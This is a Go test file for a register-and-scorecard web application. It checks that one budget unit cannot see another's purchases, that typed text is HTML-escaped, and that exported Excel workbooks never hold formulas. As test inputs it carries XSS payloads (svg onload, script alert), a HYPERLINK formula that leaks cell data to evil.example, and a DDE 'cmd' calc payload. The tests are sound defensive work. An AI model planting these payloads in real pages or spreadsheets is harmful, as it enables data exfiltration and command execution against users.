package web

import (
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// TestAtk10PerUnitEvidence: a unit reading a per-unit indicator's page (/scorecard/gg-06, each
// budget unit's purchase share) sees its own purchases as evidence, not another unit's
// entries (their links, titles and what they still miss).
func TestAtk10PerUnitEvidence(t *testing.T) {
	e := newEnv(t)
	office := e.signIn("office")
	edu, resp := postEntry(t, office, "purchases", url.Values{"unit": {"区教委"}, "period": {"2021-06"}, "food_total": {"10"}, "via_832": {"1"}})
	if edu == 0 {
		t.Fatalf("POST purchase = %d: %s", resp.StatusCode, excerpt(resp.body))
	}
	fin, resp := postEntry(t, office, "purchases", url.Values{"unit": {"区财政局"}, "period": {"2021-06"}, "food_total": {"10"}, "via_832": {"5"}})
	if fin == 0 {
		t.Fatalf("POST purchase = %d: %s", resp.StatusCode, excerpt(resp.body))
	}
	eduHref, finHref := "/registers/purchases/"+strconv.FormatInt(edu, 10)+"?", "/registers/purchases/"+strconv.FormatInt(fin, 10)+"?"
	if page := office.get("/scorecard/gg-06"); page.StatusCode != http.StatusOK || !strings.Contains(page.body, eduHref) || !strings.Contains(page.body, finHref) {
		t.Fatalf("office /scorecard/gg-06 = %d, want both purchases: %s", page.StatusCode, excerpt(page.body))
	}
	page := e.signIn("caizheng").get("/scorecard/gg-06")
	if page.StatusCode != http.StatusOK || !strings.Contains(page.body, finHref) {
		t.Fatalf("区财政局 /scorecard/gg-06 = %d, want its purchase: %s", page.StatusCode, excerpt(page.body))
	}
	if strings.Contains(page.body, eduHref) || strings.Contains(page.body, "区教委：") {
		t.Errorf("区财政局 reads 区教委's purchase or its missing text on /scorecard/gg-06")
	}
}

// TestAtk10Escaping: hostile text typed in a register's fields is shown as text on the list,
// the entry page, the scorecard's evidence and the dashboard, never as markup.
func TestAtk10Escaping(t *testing.T) {
	e := newEnv(t)
	office := e.signIn("office")
	evil := `"><svg onload=alert(1)><script>alert(2)</script>`
	id, resp := postEntry(t, office, "articles", url.Values{"kind": {"典型案例"}, "date": {"2021-07-01"}, "title": {evil}, "team": {"产业合作专班"},
		"unit": {"区财政局"}, "where": {evil}})
	if id == 0 {
		t.Fatalf("POST article = %d: %s", resp.StatusCode, excerpt(resp.body))
	}
	for _, path := range []string{"/registers/articles", "/registers/articles/" + strconv.FormatInt(id, 10), "/scorecard", "/scorecard/xx-01", "/dashboard", "/"} {
		page := office.get(path)
		if page.StatusCode != http.StatusOK {
			t.Errorf("GET %s = %d: %s", path, page.StatusCode, excerpt(page.body))
			continue
		}
		if strings.Contains(page.body, "<svg onload") || strings.Contains(page.body, "<script>alert") {
			t.Errorf("GET %s shows the text as markup", path)
		}
	}
}

// TestAtk10NoFormulaInWorkbooks: a value typed as a formula (=, +, -, @) comes back in the
// register's and the scorecard's workbooks as text, never as a formula, and imports back as
// the same text.
func TestAtk10NoFormulaInWorkbooks(t *testing.T) {
	e := newEnv(t)
	office := e.signIn("office")
	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, `+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)`}
	for _, v := range evil {
		if id, resp := postEntry(t, office, "articles", url.Values{"kind": {"典型案例"}, "date": {"2021-07-01"}, "title": {v}, "team": {"产业合作专班"}, "unit": {"区财政局"}}); id == 0 {
			t.Fatalf("POST article %q = %d: %s", v, resp.StatusCode, excerpt(resp.body))
		}
	}
	for _, path := range []string{"/registers/articles?format=xlsx", "/scorecard?format=xlsx&sheets=all"} {
		down := office.get(path)
		if down.StatusCode != http.StatusOK {
			t.Fatalf("GET %s = %d", path, down.StatusCode)
		}
		f, err := excelize.OpenReader(strings.NewReader(down.body))
		if err != nil {
			t.Fatal(err)
		}
		found := map[string]bool{}
		for _, sheet := range f.GetSheetList() {
			rows, _ := f.GetRows(sheet)
			for r, row := range rows {
				for c, v := range row {
					ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
					if fm, _ := f.GetCellFormula(sheet, ref); fm != "" {
						t.Errorf("%s %s!%s is the formula %q", path, sheet, ref, fm)
					}
					for _, x := range evil {
						if strings.Contains(v, x) {
							found[x] = true
						}
					}
				}
			}
		}
		f.Close()
		if path[1] == 'r' && len(found) != len(evil) {
			t.Errorf("%s holds %v of %q as text", path, found, evil)
		}
	}
}
